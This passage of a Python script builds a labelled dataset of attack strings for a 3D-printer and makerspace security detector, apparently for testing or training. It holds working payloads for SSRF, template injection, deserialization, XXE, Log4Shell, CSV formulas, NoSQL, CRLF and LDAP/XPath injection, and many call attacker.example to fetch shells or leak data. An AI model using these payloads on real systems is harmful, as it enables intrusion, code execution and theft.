    ("model-import-url-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("model-import-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("model-import-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("model-import-url-metadata+hex-ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("model-import-url-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("model-import-url-metadata+short-ip", "http://169.254.43518/latest/meta-data/"),
    ("model-import-url-metadata+ipv4-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webcam-url-localhost-moonraker-estop", "http://127.0.0.1:7125/printer/gcode/script?script=M112"),
    ("webcam-url-localhost-config", "http://localhost:7125/server/files/config/printer.cfg"),
    ("webcam-url-localhost-octoprint", "http://localhost:5000/api/settings"),
    ("webcam-url-docker-api+short-ip", "http://127.1:2375/containers/json"),
    ("webcam-url-zero-elastic", "http://0.0.0.0:9200/_cat/indices"),
    ("webcam-url-ipv6-loopback-mysql", "http://[::1]:3306/"),
    ("model-import-url-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/home/pi/.ssh%0D%0ACONFIG%20SET%20dbfilename%20authorized_keys%0D%0ASAVE%0D%0A"),
    ("model-import-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("model-import-url-file-passwd", "file:///etc/passwd"),
    ("model-import-url-file-secrets", "file:///home/pi/printer_data/config/moonraker.secrets"),
    ("model-import-url-file-localhost", "file://localhost/etc/shadow"),
    ("model-import-url-userinfo", "http://attacker.example@127.0.0.1:7125/access/api_key"),
    ("model-import-url-backslash-confusion", "http://127.0.0.1:7125\\@www.printables.com/model/1"),
    ("model-import-url-open-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("model-import-url-dns-to-loopback", "http://loopback.attacker.example:7125/printer/info"),
    ("model-import-url-dns-rebinding", "http://rebind.attacker.example/latest/meta-data/"),
    ("model-import-url-metadata+unicode-digits", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("webhook-url-internal-metrics", "http://127.0.0.1:9100/metrics"),
    ("webhook-url-router-admin", "http://192.168.1.1/cgi-bin/luci"),
    ("webhook-url-consul-kv", "http://10.0.0.5:8500/v1/kv/?recurse"),
    ("webhook-url-k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-url-caddy-admin", "http://localhost:2019/config/"),
    ("model-import-url-ftp-internal", "ftp://10.0.0.12/backups/"),
    ("model-import-unc-ntlm", "\\\\203.0.113.40\\models\\bracket.stl"),
    ("laser-svg-image-href", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://169.254.169.254/latest/meta-data/hostname" width="200" height="50"/></svg>'),
    ("3mf-rels-external-target", '<Relationship Target="http://127.0.0.1:7125/server/files/config/printer.cfg" Id="rel0" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail" TargetMode="External"/>'),
    ("webhook-url-localhost-reboot", "http://127.0.0.1:7125/machine/reboot"),
    ("webhook-url-server-status", "http://localhost/server-status"),
    ("webcam-url-localhost-ipv6-mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:7125/printer/info"),
    ("webcam-url-localhost+hex-ip", "http://0x7f000001:5000/api/files"),
    ("webcam-url-localhost+decimal-ip", "http://2130706433:7125/printer/objects/list"),
    ("webcam-url-localhost+octal-ip", "http://017700000001/api/version"),
    ("model-import-url-metadata+url", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("model-import-url-metadata+url-host", "http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/latest/meta-data/"),
    ("webcam-url-moonraker-db", "http://localhost:7125/server/database/item?namespace=mainsail"),
    ("printer-url-cups-admin", "http://127.0.0.1:631/admin/"),
    ("webcam-url-oneshot-token", "http://[::1]:7125/access/oneshot_token"),
    ("webcam-url-zero-octoprint-logs", "http://0.0.0.0:5000/plugin/logging/logs/octoprint.log"),
    ("plain-cloud-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-loopback-ssh", "http://127.0.0.1:22"),
    ("plain-file-scheme", "file:///etc/hosts"),
    ("plain-ipv6-loopback", "http://[::1]/"),
]

SSRF_HOSTS = ["127.0.0.1", "localhost", "[::1]", "10.0.0.7", "192.168.1.20", "172.17.0.1", "printer.internal"]
SSRF_SERVICES = [(7125, "/server/files/config/printer.cfg"), (7125, "/printer/objects/query?webhooks"),
                 (5000, "/api/connection"), (8080, "/?action=snapshot&x=../../"), (6379, "/info"),
                 (9090, "/api/v1/targets"), (2375, "/images/json"), (8500, "/v1/agent/self")]


def tpl_ssrf(rng):
    port, path = rng.choice(SSRF_SERVICES)
    ctx = rng.choice(["webcam-url", "model-import-url", "webhook-url"])
    return ("%s-internal-service" % ctx, "http://%s:%d%s" % (rng.choice(SSRF_HOSTS), port, path))


# ---------------------------------------------------------------------------
# code: SSTI, expression languages, eval, deserialization, XXE, Log4Shell,
#       prototype pollution, CSV formula, SSI/ESI/XSLT
# ---------------------------------------------------------------------------
XXE_3MF_FILE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE model [<!ENTITY cfg SYSTEM "file:///home/pi/printer_data/config/printer.cfg">]>\n'
    '<model unit="millimeter" xmlns="http://schemas.microsoft.com/3dmanufacturing/core/2015/02">\n'
    ' <metadata name="Title">&cfg;</metadata>\n <resources/>\n <build/>\n</model>'
)
XXE_SVG_FILE = (
    '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]>\n'
    '<svg xmlns="http://www.w3.org/2000/svg" width="80mm" height="20mm"><text x="2" y="12">&h;</text></svg>'
)
XXE_OOB = (
    '<?xml version="1.0"?>\n<!DOCTYPE model [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>\n'
    '<model unit="millimeter"/>'
)
XINCLUDE = (
    '<model xmlns="http://schemas.microsoft.com/3dmanufacturing/core/2015/02" '
    'xmlns:xi="http://www.w3.org/2001/XInclude"><metadata name="Designer">'
    '<xi:include parse="text" href="file:///etc/passwd"/></metadata></model>'
)
ENTITY_EXPANSION = (
    '<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>'
    '<m>&f;&f;&f;&f;</m>'
)

CODE = [
    ("klipper-macro-jinja-globals", '[gcode_macro STATUS]\ngcode:\n    RESPOND MSG="{{ cycler.__init__.__globals__.os.popen(\'id\').read() }}"'),
    ("klipper-macro-jinja-lipsum", "{% set x = lipsum.__globals__['os'].popen('cat /home/pi/printer_data/config/moonraker.secrets').read() %}M117 {{ x }}"),
    ("m117-message-jinja-context", "M117 {{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('uname -a').read() }}"),
    ("job-note-jinja-request-builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("job-note-jinja-secret-key", "{{ url_for.__globals__.current_app.config['SECRET_KEY'] }}"),
    ("job-note-jinja-catch-warnings", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("klipper-macro-jinja-attr-filter", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("klipper-macro-jinja+hex-escape", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('get')('os')|attr('popen')('whoami')|attr('read')() }}"),
    ("klipper-macro-jinja-single-brace", "RESPOND MSG=\"{ printer.configfile.__class__.__init__.__globals__['os'].system('curl attacker.example/k|sh') }\""),
    ("order-note-twig-filter-callback", "{{['id']|filter('system')}}"),
    ("order-note-twig-map-passthru", "{{['curl -s attacker.example/t|sh']|map('passthru')|join}}"),
    ("order-note-freemarker-execute", '<#assign run="freemarker.template.utility.Execute"?new()>${run("id")}'),
    ("order-note-freemarker-inline-new", '${"freemarker.template.utility.Execute"?new()("whoami")}'),
    ("order-note-velocity-runtime", '#set($s="")#set($rt=$s.getClass().forName("java.lang.Runtime").getRuntime())$rt.exec("touch /tmp/v")'),
    ("job-note-erb-backtick", "<%= `ls /home` %>"),
    ("job-note-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("profile-name-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("profile-name-thymeleaf-preprocess", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x"),
    ("profile-name-spel-getenv", "#{T(java.lang.System).getenv()}"),
    ("profile-name-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("profile-name-jsp-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("forum-post-nunjucks-range", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id').toString()\")() }}"),
    ("forum-post-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("forum-post-ejs-execsync", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("job-note-mako-expression", "${__import__('os').popen('id').read()}"),
    ("job-note-smarty-system", "{system('id')}"),
    ("job-note-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("cost-formula-python-eval", "__import__('os').system('curl -s attacker.example/e|sh')"),
    ("cost-formula-python-sandbox-escape", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['touch','/tmp/pwn'])"),
    ("cost-formula-node-constructor", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("cost-formula-lua-eval", "volume * 0.05 + (os.execute('curl -s attacker.example/l|sh') and 0 or 0)"),
    ("cost-formula-php-eval", "1 + system('id')"),
    ("job-cache-pickle-protocol0", "cos\nsystem\n(S'curl -s http://attacker.example/p | sh'\ntR."),
    ("job-cache-pickle-posix-unicode", "cposix\nsystem\n(Vuname -a\ntR."),
    ("job-cache-pickle-subprocess", "csubprocess\ncheck_output\n((S'id'\nltR."),
    ("job-cache-pickle+base64", "Y29zCnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3AgfCBzaCcKdFIu"),
    ("octoprint-config-yaml-apply", '!!python/object/apply:os.system ["curl -s attacker.example/y | sh"]'),
    ("profile-yaml-snakeyaml-gadget", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/yaml-payload.jar"]]]]'),
    ("export-state-php-object", 'O:13:"PrintExporter":1:{s:8:"filename";s:27:"/var/www/html/uploads/x.php";}'),
    ("profile-json-dotnet-typename", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c curl http://attacker.example/d"]}}'),
    ("profile-json-jackson-polymorphic", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}]'),
    ("profile-json-fastjson-autotype", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.30:1099/Exploit","autoCommit":true}'),
    ("profile-json-node-serialize", '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
    ("3mf-model-xxe-file", XXE_3MF_FILE),
    ("laser-svg-xxe-file", XXE_SVG_FILE),
    ("3mf-model-xxe-oob-parameter", XXE_OOB),
    ("3mf-model-xinclude", XINCLUDE),
    ("3mf-model-entity-expansion", ENTITY_EXPANSION),
    ("laser-svg-xxe-expect", '<!DOCTYPE x [<!ENTITY e SYSTEM "expect://id">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>'),
    ("3mf-model-xxe-ssrf", '<?xml version="1.0"?><!DOCTYPE model [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><model><metadata name="Description">&m;</metadata></model>'),
    ("job-name-log4j-jndi", "${jndi:ldap://attacker.example:1389/a}"),
    ("m117-message-log4j-jndi", "M117 ${jndi:ldap://203.0.113.50/o}"),
    ("job-name-log4j-lower-nesting", "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:r}mi://attacker.example/x}"),
    ("job-name-log4j-default-nesting", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/z}"),
    ("job-name-log4j-env-exfil", "${jndi:dns://attacker.example/${env:USER}}"),
    ("job-name-log4j+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("job-name-log4j-localhost-hash-bypass", "${jndi:ldap://127.0.0.1#attacker.example:1389/a}"),
    ("profile-json-proto-pollution", '{"__proto__": {"isAdmin": true}}'),
    ("profile-json-constructor-prototype", '{"constructor": {"prototype": {"role": "admin"}}}'),
    ("settings-query-proto-ejs-gadget", "settings[__proto__][outputFunctionName]=_x;global.process.mainModule.require('child_process').exec('curl attacker.example/ejs|sh');var __y"),
    ("profile-json-proto-execargv", '{"name": "PETG", "__proto__": {"execArgv": ["--eval=require(\'child_process\').execSync(\'id\')"]}}'),
    ("order-form-csv-hyperlink", '=HYPERLINK("https://attacker.example/?leak="&A2&B2,"Zeichnung öffnen")'),
    ("order-form-csv-dde", "=cmd|' /C powershell -c iwr attacker.example/c.ps1|iex'!A1"),
    ("order-form-csv-plus-dde", "+SUM(1+1)*cmd|' /C calc'!A0"),
    ("order-form-csv-at-dde", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("order-form-csv-webservice", '=WEBSERVICE("https://attacker.example/x?d="&ENCODEURL(C2))'),
    ("order-form-csv-importxml", '=IMPORTXML(CONCAT("https://attacker.example/?v=", A2), "//a")'),
    ("order-form-csv-delimiter-injection", "PETG black;=cmd|' /C calc'!A0"),
    ("job-note-ssi-exec", '<!--#exec cmd="id" -->'),
    ("job-note-esi-include", '<esi:include src="http://attacker.example/esi"/>'),
    ("report-xslt-php-function", '<xsl:value-of select="php:function(\'system\',\'id\')" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"/>'),
    ("filename-format-python-format-string", "output_filename_format = {job.__init__.__globals__[CONFIG][secret_key]}.gcode"),
    ("plain-jinja-rce", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("plain-log4j", "${jndi:ldap://attacker.example/a}"),
    ("plain-proto-pollution", '{"__proto__":{"admin":true}}'),
    ("plain-csv-formula", "=1+cmd|' /C calc'!A0"),
    ("plain-erb", "<%= `id` %>"),
    ("plain-xxe", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
]

JINJA_ENTRIES = ["cycler.__init__.__globals__.os", "joiner.__init__.__globals__.os",
                 "namespace.__init__.__globals__.os", "lipsum.__globals__['os']"]
JINJA_CMDS = ["id", "whoami", "uname -a", "hostname", "env", "ls -la /home/pi", "cat /etc/os-release"]
LOG4J_PROTOS = ["ldap", "ldaps", "rmi", "dns"]


def tpl_code(rng):
    kind = rng.randrange(2)
    if kind == 0:
        ctx = rng.choice(["m117-message", "job-note", "macro-param"])
        body = "{{ %s.popen('%s').read() }}" % (rng.choice(JINJA_ENTRIES), rng.choice(JINJA_CMDS))
        if ctx == "m117-message":
            body = "M117 " + body
        elif ctx == "macro-param":
            body = "START_PRINT MATERIAL=" + body
        return ("%s-jinja-globals" % ctx, body)
    host = rng.choice(["attacker.example", "l4j.attacker.example", "203.0.113.44", "198.51.100.9"])
    return ("job-name-log4j-jndi", "Print %s ${jndi:%s://%s:%d/%s}" % (
        rng.choice(["benchy", "bracket_v2", "gear", "lid"]), rng.choice(LOG4J_PROTOS), host,
        rng.choice([389, 1389, 1099, 53]), rng.choice(["a", "obj", "x1", "Exploit"])))


# ---------------------------------------------------------------------------
# nosqli
# ---------------------------------------------------------------------------
NOSQLI = [
    ("login-json-ne", '{"username": "admin", "password": {"$ne": null}}'),
    ("login-json-regex-gt", '{"email": {"$regex": "^a.*@"}, "password": {"$gt": ""}}'),
    ("login-form-bracket-ne", "username=admin&password[$ne]=wrong"),
    ("login-form-bracket-regex-exists", "user[$regex]=^adm&pass[$exists]=true"),
    ("filament-query-nin", "material[$nin][]=__none__"),
    ("filament-json-where-sleep", '{"material": "PLA", "$where": "this.owner_id != null && sleep(4000)"}'),
    ("filament-json-where-blind", '{"$where": "function(){ return this.api_key.match(/^a/) != null; }"}'),
    ("filament-where-js-tautology", "PLA' || '1'=='1"),
    ("filament-where-js-dos", "PLA'; while(true){}; var z='"),
    ("jobs-aggregate-lookup", '[{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}]'),
    ("jobs-json-or-injection", '{"$or": [{"role": "admin"}, {"role": {"$exists": false}}]}'),
    ("filament-json-regex-options", '{"name": {"$regex": ".*", "$options": "si"}}'),
    ("couchdb-selector-gt-null", '{"selector": {"_id": {"$gt": null}}}'),
    ("search-lucene-query-string", "material:PLA OR _exists_:password_hash"),
    ("filter-param-json-ne", 'filter={"owner":{"$ne":"x"}}'),
    ("login-form-bracket-ne+url", "password%5B%24ne%5D=1"),
    ("login-json-ne+unicode-escape", '{"user": {"\\u0024ne": null}, "pass": {"\\u0024ne": null}}'),
    ("reset-json-token-exists", '{"reset_token": {"$exists": true}, "new_password": "Placeholder-Only-1"}'),
    ("login-json-expr", '{"$expr": {"$gt": [{"$strLenCP": "$password_hash"}, 0]}}'),
    ("spool-query-gt-empty", "spool_id[$gt]="),
    ("order-json-where-timing", '{"$where": "this.email.startsWith(\'a\') ? sleep(3000) : true"}'),
    ("plain-bracket-gt", "username[$gt]=&password[$gt]="),
    ("plain-where-sleep", '{"$where": "sleep(5000) || true"}'),
    ("plain-json-ne", '{"password": {"$ne": ""}}'),
]

NOSQL_FIELDS = ["printer_id", "spool", "owner", "api_key", "order_no", "member"]
NOSQL_OPS = [("ne", "$ne", '"x"'), ("gt", "$gt", '""'), ("regex", "$regex", '"^.*"'), ("exists", "$exists", "true")]


def tpl_nosqli(rng):
    name, op, val = rng.choice(NOSQL_OPS)
    return ("api-json-%s" % name, '{"%s": {"%s": %s}}' % (rng.choice(NOSQL_FIELDS), op, val))


# ---------------------------------------------------------------------------
# crlf: log forging, HTTP header/response splitting, mail/SMTP injection
# ---------------------------------------------------------------------------
CRLF = [
    ("download-filename-set-cookie", "Bracket_v2.gcode\r\nSet-Cookie: session=attacker-fixed-0001; Path=/"),
    ("download-filename-response-splitting+url", "benchy.gcode%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("redirect-return-location+url", "/dashboard%0D%0ALocation:%20https://attacker.example/"),
    ("redirect-return-x-accel-redirect", "/jobs?page=2\r\nX-Accel-Redirect: /internal/config/"),
    ("job-note-log-forging", "Druck OK — Düse sauber\n2024-05-03 14:02:11,877 INFO  [auth] user=admin role=admin login successful from 127.0.0.1"),
    ("job-note-log-forging-crlf", "Layer shift\r\n[2024-05-03 14:05:00] moonraker.authorization: Trusted client 203.0.113.9 granted"),
    ("job-note-log-forging-lf", "job done\n[ERROR] Disk full, purge /home/pi/printer_data/gcodes now"),
    ("order-contact-mail-bcc", "buyer@example.org\r\nBcc: list@attacker.example"),
    ("order-contact-mail-cc-subject+url", "buyer@example.org%0ACc:everyone@attacker.example%0ASubject:%20Invoice%20overdue"),
    ("order-subject-mail-body-injection", "Order 2041 ready\r\nContent-Type: text/html\r\n\r\n<h1>Pay here: https://attacker.example/pay</h1>"),
    ("order-contact-smtp-command", "me@example.org>\r\nRCPT TO:<spam@attacker.example>"),
    ("order-message-smtp-smuggling", "Thanks!\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: hi\r\n\r\nphish\r\n.\r\n"),
    ("job-note-log-forging-unicode-ls", "Job 77 done\u2028INFO admin logged in from 127.0.0.1"),
    ("job-note-log-forging-unicode-nel", "Job 78 done\u0085WARN firmware verified, safe to flash"),
    ("download-filename-set-cookie+unicode-truncation", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("webhook-header-injection", "X-Job: 42\r\nAuthorization: Bearer FAKE-TOKEN-000"),
    ("webhook-url-request-splitting", "http://127.0.0.1:7125/ HTTP/1.1\r\nHost: localhost\r\n\r\nPOST /printer/emergency_stop HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("redirect-return-refresh+url", "%0d%0aRefresh:%200;url=https://attacker.example/"),
    ("job-note-log-ansi-escape", "done\u001b[2J\u001b[1;1HAll checks passed"),
    ("download-filename-html-body+url", "Foo%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Csvg%20onload=alert(1)%3E"),
    ("lang-param-session-fixation", "en\r\nSet-Cookie: moonraker_session=deadbeef; HttpOnly"),
    ("lang-param-cors-injection+url", "de%0D%0AAccess-Control-Allow-Origin:%20https://attacker.example%0D%0AAccess-Control-Allow-Credentials:%20true"),
    ("order-name-reply-to", "Zofia Wójcik\r\nReply-To: billing@attacker.example"),
    ("job-note-syslog-forging", "Print finished\n<13>May  3 14:00:00 octopi sshd[1234]: Accepted password for root from 203.0.113.77 port 51515 ssh2"),
    ("download-filename-set-cookie+url2x", "report.pdf%250d%250aSet-Cookie:%2520admin=1"),
    ("job-note-carriage-return-overwrite", "ERROR: thermal runaway on heater_bed\rOK: print finished normally          "),
    ("macro-respond-log-forging", "RESPOND MSG=\"ok\nklippy: Loaded MCU 'mcu' 104 commands (v0.12.0)\""),
    ("gcode-comment-log-forging", "; END\n2024-05-03 15:00:00 [octoprint.plugins.firmwarecheck] Uploaded firmware.bin verified OK (sha256 match)"),
    ("download-filename-csp-override", "benchy.gcode\nContent-Security-Policy: script-src * 'unsafe-inline'"),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: admin=true"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
    ("plain-crlf-location", "x\r\nLocation: https://attacker.example/"),
]

CRLF_PREFIXES = ["benchy.gcode", "bracket_v3.3mf", "invoice_2024-117.pdf", "timelapse_0042.mp4"]
CRLF_HEADERS = ["Set-Cookie: sid=fixed-%04d; Path=/", "X-Accel-Redirect: /protected/%04d",
                "Location: https://attacker.example/r%04d", "Refresh: 0; url=https://attacker.example/%04d"]


def tpl_crlf(rng):
    header = rng.choice(CRLF_HEADERS) % rng.randint(0, 9999)
    if rng.random() < 0.5:
        return ("download-filename-header-injection", "%s\r\n%s" % (rng.choice(CRLF_PREFIXES), header))
    return ("download-filename-header-injection-lf", "%s\n%s" % (rng.choice(CRLF_PREFIXES), header))


# ---------------------------------------------------------------------------
# ldap-xpath
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("member-login-filter-injection", "*)(uid=*))(|(uid=*"),
    ("member-login-absolute-true", "admin)(&)"),
    ("member-search-attribute-probe", "*)(memberOf=cn=admins,ou=groups,dc=makerspace,dc=example"),
    ("member-login-password-blind", "łukasz*)(userPassword=a*"),
    ("member-search-or-all", "*)(|(objectClass=*"),
    ("tool-access-filter-or", "laser-cutter)(|(access=*)"),
    ("member-login-filter-injection+url", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("member-login-nullbyte-truncation", "admin))%00"),
    ("member-search-sn-wildcard", "x)(|(sn=*))(&(x=y"),
    ("material-xml-lookup-tautology", "nozzle' or '1'='1"),
    ("material-xml-lookup-union", "x'] | //user/password | //x['"),
    ("material-xml-lookup-count-blind", "' or count(/*)=1 or 'a'='b"),
    ("material-xml-lookup-substring-blind", "' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("printer-xml-lookup-name-length", "' or string-length(name(/*[1]))=7 or ''='"),
    ("printer-xml-lookup-numeric", "3 or true()"),
    ("printer-xml-lookup-contains", "')] | //*[contains(.,'secret')] | //x[('"),
    ("printer-xml-lookup-doc-oob", "' or doc-available(concat('http://attacker.example/?',name(/*))) or '"),
    ("printer-xml-lookup-apikey", "' or //printer[@name='MK4']/apikey/text()!='' or 'a'='b"),
    ("plain-ldap-wildcard-close", "*)(&"),
    ("plain-xpath-tautology", "' or ''='"),
]

LDAP_ATTRS = ["mail", "telephoneNumber", "userPassword", "memberOf", "homeDirectory", "employeeNumber"]


def tpl_ldap_xpath(rng):
    return ("member-search-attribute-blind", "%s*)(%s=%s*" % (
        rng.choice(["anna", "jan", "lena", "tomasz", "akira", "admin"]), rng.choice(LDAP_ATTRS),
        rng.choice("abcdefghijklmnopqrstuvwxyz0123456789")))


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli),
    ("xss", XSS, tpl_xss),
    ("cmdi", CMDI, tpl_cmdi),
    ("traversal", TRAVERSAL, tpl_traversal),
    ("ssrf", SSRF, tpl_ssrf),
    ("code", CODE, tpl_code),
    ("nosqli", NOSQLI, tpl_nosqli),
    ("crlf", CRLF, tpl_crlf),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap_xpath),
]


def main():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    for cat, literals, tpl in CATEGORIES:
        target = TARGETS[cat]
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit("duplicate literal in %s: %r" % (cat, v))
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        if n_lit > target or n_lit < MIN_LITERAL_SHARE * target:
            raise SystemExit("%s: %d literals for target %d" % (cat, n_lit, target))
        attempts = 0
        while len(items) < target:
            attempts += 1
            if attempts > 20000:
                raise SystemExit("%s: template cannot produce enough unique values" % cat)
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        for cls, v in items:
            if not isinstance(v, str) or not v or len(v) > MAX_LEN:
                raise SystemExit("%s: bad value %r" % (cat, v))
            rows.append((cat, cls, v))
        stats.append((cat, len(items), n_lit))

    # The two files must not share a value (only checked when benign.jsonl exists).
    benign_path = Path(__file__).with_name("benign.jsonl")
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            benign_values = [json.loads(line)["value"] for line in fh]
        for v in benign_values:
            if v in seen:
                raise SystemExit("value present in both files: %r" % v)

    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, n_lit in stats:
        total_lit += n_lit
        print("%-11s %3d  (literals %d)" % (cat, n, n_lit))
    n_plain = sum(1 for _, cls, _ in rows if cls.startswith("plain-"))
    n_enc = sum(1 for _, cls, _ in rows if "+" in cls)
    print("%-11s %3d  (literals %d, plain %d, encoded %d)" % ("TOTAL", len(rows), total_lit, n_plain, n_enc))
    print("wrote", out)


if __name__ == "__main__":
    main()
